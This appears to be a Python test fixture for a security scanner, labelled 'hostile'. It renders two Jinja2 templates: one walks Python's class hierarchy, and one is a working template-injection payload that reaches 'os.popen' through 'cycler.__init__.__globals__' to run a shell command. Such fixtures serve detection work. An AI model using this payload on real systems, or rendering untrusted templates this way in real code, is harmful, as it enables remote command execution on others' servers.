# label: hostile
# expect:
# note: Renders a user's template that walks the classes; the walk stands in a constant string and jinja executes it.
# allow: V501 V601
import jinja2

PROFILE = "Hello {{ user }}, {{ ''.__class__.__mro__[1].__subclasses__() | length }} ways out"
REAL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"

env = jinja2.Environment(autoescape=True)
for text in (PROFILE, REAL):
    print(env.from_string(text).render(user="guest"))
